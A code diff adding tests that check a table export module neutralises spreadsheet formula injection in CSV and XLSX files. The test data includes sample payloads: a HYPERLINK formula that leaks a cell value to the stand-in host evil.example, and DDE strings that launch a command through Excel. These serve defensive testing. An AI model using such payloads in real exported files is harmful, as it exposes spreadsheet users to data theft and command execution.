@@ -1,6 +1,7 @@
 import assert from 'node:assert/strict';
 import fs from 'node:fs';
 import path from 'node:path';
+import { parse } from 'csv-parse/sync';
 import ExcelJS from 'exceljs';
 import { readTable, UnreadableFileError, writeTable, type UnreadableReason } from '../../../src/platform/files/tabular';
 import { TempDirs } from '../../support/temp-dirs';
@@ -213,6 +214,93 @@ describe('reading and writing tables', () => {
         });
       });
     }
+
+    describe('formulas', () => {
+      /** What a spreadsheet would take for a formula: a cell, or (German Excel splits CSV at `;`) a part after `;` or a line break. */
+      const FORMULA = /(^|[;\r\n])[=+\-@\t\r]/;
+      const values = [
+        '=HYPERLINK("https://evil.example/?d="&A1,"Details")',
+        '@SUM(1+1)*cmd|\' /C calc\'!A0',
+        "-2+3+cmd|' /C calc'!A0",
+        '+49 2541 18-0',
+        '\t=1+1',
+        '\r=1+1',
+        "'=schon geschützt",
+        "''+zweimal",
+        'Zeile eins\n-2+3+cmd|x!A0',
+        'harmlos - mit Strich',
+        "it's",
+      ];
+      const rows = values.map((value, i) => ({ id: `r${i}`, aliases: [], summary: value }));
+      const lists = [{ id: 'liste', aliases: ['eAkte', '=HYPERLINK("https://evil.example")', '@x'], summary: '' }];
+
+      it('writes CSV with a quote before every formula start, also after ; and line breaks, in quoted cells', async () => {
+        const file = path.join(temp.make(), 'out.csv');
+        await writeTable(file, ['id', 'aliases', 'summary'], [...rows.slice(0, 3), rows[8]!, ...lists]);
+        assert.equal(
+          fs.readFileSync(file, 'utf8'),
+          '\uFEFFid,aliases,summary\n' +
+            'r0,,"\'=HYPERLINK(""https://evil.example/?d=""&A1,""Details"")"\n' +
+            'r1,,"\'@SUM(1+1)*cmd|\' /C calc\'!A0"\n' +
+            'r2,,"\'-2+3+cmd|\' /C calc\'!A0"\n' +
+            'r8,,"Zeile eins\n\'-2+3+cmd|x!A0"\n' +
+            'liste,"eAkte;\'=HYPERLINK(""https://evil.example"");\'@x",\n',
+        );
+      });
+
+      it('leaves no cell and no part of a cell of a CSV starting a formula', async () => {
+        const file = path.join(temp.make(), 'out.csv');
+        await writeTable(file, ['id', 'aliases', 'summary'], [...rows, ...lists]);
+        const cells = (parse(fs.readFileSync(file, 'utf8'), { bom: true }) as string[][]).flat();
+        assert.deepEqual(cells.filter((cell) => FORMULA.test(cell)), []);
+      });
+
+      it('leaves no cell of an XLSX starting a formula, and writes no formula cell', async () => {
+        const file = path.join(temp.make(), 'out.xlsx');
+        await writeTable(file, ['id', 'aliases', 'summary'], [...rows, ...lists]);
+        const workbook = new ExcelJS.Workbook();
+        await workbook.xlsx.readFile(file);
+        const cells: ExcelJS.CellValue[] = [];
+        workbook.worksheets[0]!.eachRow((row) => row.eachCell((cell) => void cells.push(cell.value)));
+        assert.deepEqual(cells.filter((value) => typeof value !== 'string'), []);
+        assert.deepEqual(cells.filter((value) => /^[=+\-@\t\r]/.test(String(value))), []);
+        assert.deepEqual(cells.slice(3, 6), ['r0', '', '\'=HYPERLINK("https://evil.example/?d="&A1,"Details")']);
+        assert.equal(cells.at(-2), 'eAkte;=HYPERLINK("https://evil.example");@x');
+      });
+
+      for (const extension of ['.csv', '.xlsx', '.json']) {
+        it(`reads back exactly what it wrote as ${extension}, quotes included`, async () => {
+          const file = path.join(temp.make(), `out${extension}`);
+          await writeTable(file, ['id', 'aliases', 'summary'], [...rows, ...lists]);
+          const read = await readTable(file);
+          // XLSX is XML, which reads a carriage return as a line feed.
+          const expected = extension === '.xlsx' ? values.map((v) => v.replace(/\r/g, '\n')) : values;
+          assert.deepEqual(
+            read.rows.map((r) => r.cells.summary),
+            [...expected, ''],
+          );
+          assert.deepEqual(read.rows.at(-1)!.cells.aliases, extension === '.json' ? lists[0]!.aliases : lists[0]!.aliases.join(';'));
+        });
+      }
+
+      it('is the only module that loads a CSV or XLSX library, so every export a feature adds is neutralised here', () => {
+        const root = path.join(__dirname, '..', '..', '..', 'src');
+        const sources = (fs.readdirSync(root, { recursive: true }) as string[]).filter((f) => f.endsWith('.ts'));
+        const loaders = sources.filter((f) => /from '(csv-stringify|csv-parse|exceljs|xlsx)[/']/.test(fs.readFileSync(path.join(root, f), 'utf8')));
+        assert.deepEqual(loaders, [path.join('platform', 'files', 'tabular.ts')]);
+      });
+
+      it('writes JSON unchanged', async () => {
+        const file = path.join(temp.make(), 'out.json');
+        await writeTable(file, ['id', 'summary'], [rows[0]!]);
+        assert.deepEqual(JSON.parse(fs.readFileSync(file, 'utf8')), [{ id: 'r0', summary: values[0] }]);
+      });
+
+      it("reads a CSV cell that someone protected with ' in Excel as the text after it", async () => {
+        const table = await readTable(temp.fileWith('p.csv', "id,summary\nx,'=1+1\ny,'harmlos\n"));
+        assert.deepEqual(table.rows.map((r) => r.cells.summary), ['=1+1', "'harmlos"]);
+      });
+    });
 
     it('creates the folder of the file it writes', async () => {
       const file = path.join(temp.make(), 'neu', 'tief', 'out.json');
